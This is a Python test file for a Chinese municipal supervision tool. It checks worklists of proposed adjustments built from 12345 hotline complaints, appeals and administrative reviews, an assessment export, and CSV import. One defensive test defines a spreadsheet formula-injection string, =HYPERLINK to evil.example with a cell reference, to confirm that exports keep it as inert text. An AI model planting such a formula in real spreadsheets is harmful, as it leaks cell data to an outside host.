"""结果运用: the worklist of proposed adjustments (each citing its evidence at file:line), the 综合考核 export,
hostile strings kept as text in xlsx and Markdown, and 信访/行政复议/督查 imported through the 12345 path."""
import shutil
from pathlib import Path

import openpyxl
import pytest

import policykit
from gitrepo import copy_bundled
from policykit.cli import main
from policykit.supervision import results
from policykit.supervision.problem_sources import import_problems

ROOT = Path(__file__).resolve().parents[1]
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1)'


def _line(path: Path, line: int) -> str:
    return path.read_text(encoding="utf-8").splitlines()[line - 1]


def test_repeated_buck_passing_without_a_boundary_proposes_one_citing_each_problem(bundled_repo):
    proposals = results.worklist(bundled_repo, "2025")
    [smoke] = [p for p in proposals if p.kind == results.KIND_NEW_BOUNDARY and p.subject == "餐饮油烟扰民"]
    assert set(smoke.departments) == {"scjgj", "sthjj", "zhzfj"}
    problem_ids = [e.ref for e in smoke.evidence if e.type.startswith("问题")]
    assert len(problem_ids) == 5 and "WZ-2025-002" in problem_ids
    for e in smoke.evidence:          # every citation points at the line that holds the record
        file, line = e.location.rsplit(":", 1)
        assert e.ref in _line(ROOT / file, int(line))
    # a matter that has a boundary matter and keeps producing 推诿 asks for the matter to be revised
    assert any(p.kind == results.KIND_FIX_BOUNDARY and p.subject.startswith("BJ-011") for p in proposals)
    # below the threshold nothing is proposed
    assert not any(p.subject == "小区二次供水" for p in results.worklist(bundled_repo, "2025", threshold=3))


def test_idle_items_found_by_the_evaluation_are_proposed_for_review(bundled_repo):
    cards = results.evaluated(bundled_repo, "2025")
    proposals = results.worklist(bundled_repo, "2025", cards=cards)
    idle = [p for p in proposals if p.kind == results.KIND_ITEM]
    assert idle and all(bundled_repo.item(p.subject.split()[0]) is not None for p in idle)
    assert all(any(e.type == "履职评估" for e in p.evidence) for p in idle)


def test_unclaimed_catalogue_item_and_unit_without_processes(city):
    root = city({
        "lists/catalogs/hlwjg.yaml": ("id: hlwjg\nname: 示例监管事项目录\nitems:\n"
                                      "  - code: JG-009\n    name: 对餐饮油烟的监督检查\n    claims:\n"
                                      "      - {department: sthjj, role: 配合}\n"),
        "lists/processes/scjgj.yaml": ("department: scjgj\nprocesses:\n  - id: LC-scjgj-001\n    name: 公文办理流程\n"
                                       "    duty: {unit: 办公室, no: 1}\n    day_type: 工作日\n    steps:\n"
                                       "      - {no: 1, name: 登记, unit: 办公室, days: 1}\n"),
    })
    repo = policykit.open_repository(root)
    proposals = results.worklist(repo, "2025")
    [lead] = [p for p in proposals if p.kind == results.KIND_LEAD]
    assert lead.subject.startswith("JG-009") and lead.departments == ("sthjj",) and "生态环境局" in lead.proposal
    assert lead.evidence[0].location == "lists/catalogs/hlwjg.yaml:4"
    staffing = [p for p in proposals if p.kind == results.KIND_STAFFING]
    assert [p.subject for p in staffing] == ["市场监管局食品安全科"]
    assert "没有任何工作流程" in staffing[0].proposal


def test_hostile_strings_stay_text_in_the_worklist_xlsx_and_markdown(city, tmp_path):
    problems = "".join(
        f"  - id: RX-{i}\n    order_id: \"{i}\"\n    date: 2025-0{i}-01\n    content: 无人管\n"
        f"    departments: [scjgj, sthjj]\n    tags: [推诿]\n    matter: '{HOSTILE}'\n" for i in (1, 2))
    root = city({"lists/problems/12345-2025.yaml": f"batch: '12345-2025'\nsource: '12345'\nproblems:\n{problems}",
                 "lists/processes/scjgj.yaml": None})
    repo = policykit.open_repository(root)
    assert not repo.load_problems, repo.load_problems
    proposals = results.worklist(repo, "2025")
    [p] = [p for p in proposals if p.kind == results.KIND_NEW_BOUNDARY]
    out = tmp_path / "w.xlsx"
    assert main(["results", "--period", "2025", "--root", str(root), "--worklist", str(out)]) == 0
    ws = openpyxl.load_workbook(out).active
    cells = [c for row in ws.iter_rows() for c in row if c.value == HOSTILE]
    assert cells and all(c.data_type == "s" for c in cells)
    md = results.render_markdown(proposals, repo, "2025")
    assert HOSTILE not in md, md
    assert '=HYPERLINK("http://evil.example/?"&amp;A1)' in md         # literal text: & as &amp;, no raw HTML


def test_assessment_export_has_one_row_per_department(tmp_path, bundled_repo):
    out = tmp_path / "考核.xlsx"
    assert main(["results", "--period", "2025", "--root", str(ROOT), "--assessment", str(out),
                 "--worklist", str(tmp_path / "w.md")]) == 0
    ws = openpyxl.load_workbook(out).active
    header = [c.value for c in ws[2]]
    assert header == results.ASSESSMENT_HEADER
    rows = [[c.value for c in r] for r in ws.iter_rows(min_row=3)]
    assert sorted(r[1] for r in rows) == sorted(bundled_repo.departments)
    scored = [r for r in rows if r[15] != "未评估"]
    assert scored and all(isinstance(r[5], (int, float)) and r[5] <= r[6] for r in scored)
    assert [r[5] for r in scored] == sorted((r[5] for r in scored), reverse=True)
    md = (tmp_path / "w.md").read_text(encoding="utf-8")
    assert md.startswith("# 明湖市职能运行监管结果运用") and "lists/problems/12345-2025.yaml:" in md


def test_cli_refuses_bad_arguments_with_exit_2(tmp_path, capsys):
    assert main(["results", "--root", str(ROOT)]) == 2
    assert main(["results", "--period", "2025", "--root", str(ROOT), "--worklist", str(tmp_path / "w.txt")]) == 2
    assert main(["results", "--period", "2025年", "--root", str(ROOT)]) == 2
    assert "期间" in capsys.readouterr().err


LETTERS = """编号,受理日期,内容,承办部门,标签,事项,办理结果
XF2025001,2025-03-02,反映小区二次供水水质差，多个部门互相推诿,市住房城乡建设局；市卫生健康委,推诿,小区二次供水,已转办
XF2025002,2025-13-01,日期写错的一行,市住房城乡建设局,,,
"""


def test_other_sources_come_through_the_accounted_12345_path(tmp_path, bundled_repo):
    csv = tmp_path / "xf-2025.csv"
    csv.write_text(LETTERS, encoding="utf-8")
    out = tmp_path / "lists" / "problems" / "xf-2025.yaml"
    out.parent.mkdir(parents=True)
    result = import_problems(csv, out, bundled_repo, source="信访")
    assert result.imported == ["XF-XF2025001"] and [line for line, _ in result.skipped] == [3]
    assert result.rows == 2 and any(p.line == 3 for p in result.problems)
    text = out.read_text(encoding="utf-8")
    assert "source: 信访" in text and "id: XF-XF2025001" in text
    # the written file is a valid problem record of the repository
    city = tmp_path
    shutil.copy(ROOT / "policykit.yaml", city / "policykit.yaml")
    for sub in ("organizations", "boundaries"):
        shutil.copytree(ROOT / "lists" / sub, city / "lists" / sub)
    again = policykit.open_repository(city)
    assert not again.load_problems and again.records["problem"][0][1]["source"] == "信访"
    # re-import: the same bytes
    before = out.read_bytes()
    import_problems(csv, out, bundled_repo, source="信访")
    assert out.read_bytes() == before
    with pytest.raises(Exception, match="未知的问题来源"):
        import_problems(csv, out, bundled_repo, source="微博")


def test_cli_import_problems_reports_rows_and_exits_1_on_errors(tmp_path, capsys):
    csv = tmp_path / "fy.csv"
    csv.write_text(LETTERS.replace("XF2025", "FY2025"), encoding="utf-8")
    code = main(["results", "import-problems", str(csv), "--source", "行政复议", "--out", str(tmp_path / "fy.yaml"),
                 "--root", str(ROOT)])
    out = capsys.readouterr().out
    assert code == 1 and "导入 1 件，跳过 1 行" in out and "fy.csv:3:" in out
    assert "id: FY-FY2025001" in (tmp_path / "fy.yaml").read_text(encoding="utf-8")


REVIEWS = """编号,受理日期,内容,承办部门,标签,事项,办理结果
FY2025001,2025-04-02,申请人不服罚款决定,市商务局,,单用途商业预付卡,撤销原行政处罚决定
FY2025002,2025-06-12,申请人不服备案处理,市商务局,推诿,单用途商业预付卡,确认原行政行为违法
FY2025003,2025-07-01,申请人不服检查结论,市商务局,,单用途商业预付卡,维持
"""


def test_overturned_administrative_reviews_point_at_the_departments_processes(tmp_path):
    root = copy_bundled(tmp_path / "city", "schemas")
    csv = tmp_path / "fy.csv"
    csv.write_text(REVIEWS, encoding="utf-8")
    result = import_problems(csv, root / "lists" / "problems" / "fy-2025.yaml", policykit.open_repository(root),
                             source="行政复议")
    assert len(result.imported) == 3
    repo = policykit.open_repository(root)
    [review] = [p for p in results.worklist(repo, "2025") if p.kind == results.KIND_REVIEW]
    assert review.departments == ("swj",) and "2 件行政复议" in review.proposal
    assert [e.ref for e in review.evidence if e.type == "行政复议"] == ["FY-FY2025001", "FY-FY2025002"]
    assert any(e.type == "工作流程" and e.ref == "LC-swj-005" for e in review.evidence)
